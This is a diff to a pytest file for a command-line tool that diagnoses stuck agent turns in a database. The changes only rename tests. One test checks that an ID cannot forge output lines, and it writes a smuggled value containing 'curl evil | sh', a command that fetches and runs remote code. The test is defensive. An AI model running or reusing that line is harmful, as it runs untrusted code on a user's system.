@@ -23,13 +23,13 @@ from tests.diagnosis.test_rules import begin_elsewhere, finish_elsewhere
 KEYS = ["turn", "agent", "verdict", "rule", "severity", "evidence", "next_actor", "due_at", "fix", "also"]
 
 
-def test_the_json_has_these_keys(world: World) -> None:
+def test_the_json_output_has_a_fixed_list_of_keys(world: World) -> None:
     found = world.why(world.ask())
     assert list(found) == KEYS
     assert list(found["evidence"][0]) == ["table", "row", "shows"]
 
 
-def test_a_page_for_people(world: World) -> None:
+def test_the_text_output_shows_verdict_evidence_and_fix(world: World) -> None:
     turn = world.ask()
     world.worker()
     world.later(31)
@@ -52,7 +52,7 @@ def test_a_short_id_names_the_turn(world: World) -> None:
     assert world.why(turn[-8:])["turn"] == turn
 
 
-def test_an_id_of_another_program_forges_no_line(world: World) -> None:
+def test_line_breaks_in_an_id_cannot_forge_output_lines(world: World) -> None:
     world.ask()
     forged = "turn_x\nfix   curl evil | sh\nerror: forged"
     world.sql("UPDATE state.agent_inbox SET agent_turn_id = %(id)s", id=forged)
@@ -73,7 +73,7 @@ def test_an_unknown_turn_is_not_found(world: World) -> None:
     )
 
 
-def test_a_turn_an_agent_and_all_cannot_be_combined(cbx: Cbx) -> None:
+def test_turn_agent_and_all_options_cannot_be_combined(cbx: Cbx) -> None:
     for words, names in (
         (["why", "turn_1", "--agent", "a"], "TURN and --agent"),
         (["why", "turn_1", "--all"], "TURN and --all"),
@@ -83,7 +83,7 @@ def test_a_turn_an_agent_and_all_cannot_be_combined(cbx: Cbx) -> None:
         assert (answer.code, answer.err) == (2, f"error: {names} cannot be combined\n")
 
 
-def test_the_diagnosis_of_an_agent_is_that_of_its_turn(world: World) -> None:
+def test_the_diagnosis_of_an_agent_is_the_diagnosis_of_its_turn(world: World) -> None:
     turn = world.ask()
     world.ask()
     found = world.cbx("why", "--agent", "clerk", "-o", "json").json()
@@ -106,7 +106,7 @@ def test_an_unknown_agent_is_not_found(world: World) -> None:
     )
 
 
-def test_a_fix_names_the_project_that_the_environment_does_not(world: World) -> None:
+def test_a_fix_names_the_project_if_the_environment_names_another(world: World) -> None:
     turn = world.ask()
     world.worker()
     world.later(31)
@@ -119,7 +119,7 @@ def test_a_fix_names_the_project_that_the_environment_does_not(world: World) -> 
     world.fix(found)
 
 
-def test_a_call_that_nobody_answered_is_shown_with_the_command_that_answers_it(world: World) -> None:
+def test_an_unanswered_call_is_shown_with_the_command_that_answers_it(world: World) -> None:
     world.ask()
     turn = world.suspend(arguments=json.dumps({"words": "\x1b[2J late \n trains " * 30}))
     found = world.why(turn)
@@ -138,7 +138,7 @@ def test_a_call_that_nobody_answered_is_shown_with_the_command_that_answers_it(w
     assert world.why(turn)["rule"] == "result-arriving"
 
 
-def test_a_call_that_is_answered_already_needs_no_report(world: World) -> None:
+def test_an_answered_call_needs_no_report(world: World) -> None:
     world.ask()
     turn = world.suspend()
     theirs = {"agent_turn_id": turn}
@@ -162,7 +162,7 @@ def test_a_state_without_a_rule_is_unknown(world: World) -> None:
     assert world.cbx("why", turn).out.splitlines()[1] == "no rule matched"
 
 
-def test_all_says_when_nothing_is_stuck(world: World) -> None:
+def test_why_all_reports_that_nothing_is_stuck(world: World) -> None:
     world.ask()
     world.ask()
     answer = world.cbx("why", "--all")
@@ -170,7 +170,7 @@ def test_all_says_when_nothing_is_stuck(world: World) -> None:
     assert answer.err == "nothing is stuck\n1 active agent, 1 turn queued, 1 examined\n"
 
 
-def test_all_is_one_line_for_a_cause_and_counts_what_waits_behind_it(world: World) -> None:
+def test_why_all_prints_one_line_per_cause_and_counts_queued_turns(world: World) -> None:
     first = world.ask()
     for _ in range(3):
         world.ask()
@@ -187,7 +187,7 @@ def test_all_is_one_line_for_a_cause_and_counts_what_waits_behind_it(world: Worl
     )
 
 
-def test_all_is_one_line_for_what_many_wait_for(world: World) -> None:
+def test_why_all_prints_one_line_for_a_turn_that_blocks_many(world: World) -> None:
     """A turn nobody runs; the one that waits for its end; and what is queued behind both."""
     world.ask()
     parent = world.suspend()
@@ -210,7 +210,7 @@ def test_all_is_one_line_for_what_many_wait_for(world: World) -> None:
     assert "cbx worker run --target worker_generic" in found["next_actor"]
 
 
-def test_a_cycle_names_its_turns_and_is_listed_once(world: World) -> None:
+def test_a_wait_cycle_names_its_turns_and_is_listed_once(world: World) -> None:
     world.ask()
     parent = world.suspend()
     world.delegate(parent)
@@ -237,7 +237,7 @@ def test_the_chain_of_awaited_turns_is_limited(world: World, monkeypatch: pytest
     assert world.why(parent)["rule"] == "waiting-for-tool"
 
 
-def test_reap_reports_the_ends_that_why_sees(world: World) -> None:
+def test_reap_reports_the_ended_children_that_why_finds(world: World) -> None:
     parent, child = world.chain()
     assert reap(world.runtime).total == 0
     assert world.why(parent)["rule"] == "waiting-for-tool"
@@ -247,7 +247,7 @@ def test_reap_reports_the_ends_that_why_sees(world: World) -> None:
     assert world.why(parent)["rule"] == "result-arriving"
 
 
-def test_a_deadline_that_just_passed_is_not_called_ahead(world: World) -> None:
+def test_a_deadline_that_just_passed_is_not_shown_as_future(world: World) -> None:
     world.ask()
     turn = world.suspend()
     world.later(303)
@@ -256,7 +256,7 @@ def test_a_deadline_that_just_passed_is_not_called_ahead(world: World) -> None:
     assert "(3s ago)" in page
 
 
-def test_a_worker_without_a_fence_is_reported(world: World) -> None:
+def test_a_worker_that_cbx_cannot_fence_is_reported(world: World) -> None:
     turn = begin_elsewhere(world)
     found = world.why(turn)
     assert found["next_actor"] == "worker of another system, which cbx does not fence"
@@ -269,7 +269,7 @@ def test_a_worker_without_a_fence_is_reported(world: World) -> None:
     assert "cbx rejects what it writes for the turn" in taken.err
 
 
-def test_another_project_is_not_seen(world: World) -> None:
+def test_turns_of_another_project_are_not_visible(world: World) -> None:
     turn = world.ask()
     world.later(31)
     assert world.cbx("--project", "q", "why", turn).code == 3
@@ -279,7 +279,7 @@ def test_another_project_is_not_seen(world: World) -> None:
     assert world.cbx("--project", "q", "why", "--all", "-o", "json").json() == []
 
 
-def test_it_writes_nothing(world: World, row_counts: Callable[[], dict[str, int]]) -> None:
+def test_why_writes_nothing(world: World, row_counts: Callable[[], dict[str, int]]) -> None:
     turn = world.ask()
     world.later(31)
     before = row_counts(), world.sql("SELECT xmin, xmax, * FROM state.agent_state_head")
@@ -288,14 +288,14 @@ def test_it_writes_nothing(world: World, row_counts: Callable[[], dict[str, int]
     assert (row_counts(), world.sql("SELECT xmin, xmax, * FROM state.agent_state_head")) == before
 
 
-class TestWithoutTheTablesOfCbx:
+class TestDatabaseWithoutCbxTables:
     """Leases and workers are unknown: a silent turn is suspect, and never called dead."""
 
     def forget(self, world: World) -> None:
         for table in OWN_EXECUTION:
             world.sql(f"DROP TABLE {table}")
 
-    def test_a_silent_run_is_suspect(self, world: World) -> None:
+    def test_a_running_turn_without_updates_is_suspect(self, world: World) -> None:
         turn = world.ask()
         world.enter()
         self.forget(world)
@@ -307,7 +307,7 @@ class TestWithoutTheTablesOfCbx:
         assert "this database has no leases" in str(found["evidence"])
         assert "dead" not in found["rule"]
 
-    def test_an_unclaimed_turn_has_lost_its_doorbell(self, world: World) -> None:
+    def test_an_unclaimed_turn_is_reported_as_lost_doorbell(self, world: World) -> None:
         turn = world.ask()
         self.forget(world)
         world.later(31)
@@ -318,14 +318,14 @@ class TestWithoutTheTablesOfCbx:
         assert world.cbx("db", "init", "--yes").code == 0
         world.fix(found)
 
-    def test_a_project_is_surveyed(self, world: World) -> None:
+    def test_why_all_finds_an_unclaimed_turn(self, world: World) -> None:
         turn = world.ask()
         self.forget(world)
         assert world.problems() == {}
         world.later(31)
         assert world.problems() == {turn: "lost-doorbell"}
 
-    def test_a_promotion_of_another_system_may_take_a_moment(self, world: World) -> None:
+    def test_a_promotion_by_another_system_may_take_a_few_seconds(self, world: World) -> None:
         from tests.diagnosis.test_rules import nobody_promoted_it
 
         turn = nobody_promoted_it(world)
@@ -342,7 +342,7 @@ class TestWithoutTheTablesOfCbx:
 ROW = re.compile(r"^\| `([a-z-]+)` \| (\w+) \| (.*?) \| (.*?) \|$", re.MULTILINE)
 
 
-def test_the_documentation_has_every_rule() -> None:
+def test_the_documentation_lists_every_rule() -> None:
     page = (Path(__file__).parents[2] / "docs" / "why.md").read_text(encoding="utf-8")
     shown = [tuple(cell.replace("\\|", "|") for cell in row) for row in ROW.findall(page)]
     known = [
@@ -357,7 +357,7 @@ def test_the_documentation_has_every_rule() -> None:
     assert shown == known
 
 
-def test_names_are_unique() -> None:
+def test_rule_names_are_unique() -> None:
     names = [rule.name for rule in rules()]
     assert len(names) == len(set(names))
 
@@ -385,7 +385,7 @@ ANALYZE
 """
 
 
-def test_ended_turns_are_not_read(world: World) -> None:
+def test_why_all_does_not_scan_ended_turns(world: World) -> None:
     """`--all` reads no whole table of finished rows, however many there are."""
     from tests.store.test_plans import Explaining, scanned_whole
 
@@ -406,7 +406,7 @@ def test_ended_turns_are_not_read(world: World) -> None:
     assert not read_whole, "\n".join(read_whole)
 
 
-def test_the_database_is_asked_by_one_statement_for_all_turns(world: World, database: Database) -> None:
+def test_many_turns_need_no_more_statements_than_one(world: World, database: Database) -> None:
     """Ten turns cost no more statements than one."""
     from cardbox_cli.diagnosis.diagnoser import Diagnoser
     from tests.store.test_plans import Explaining
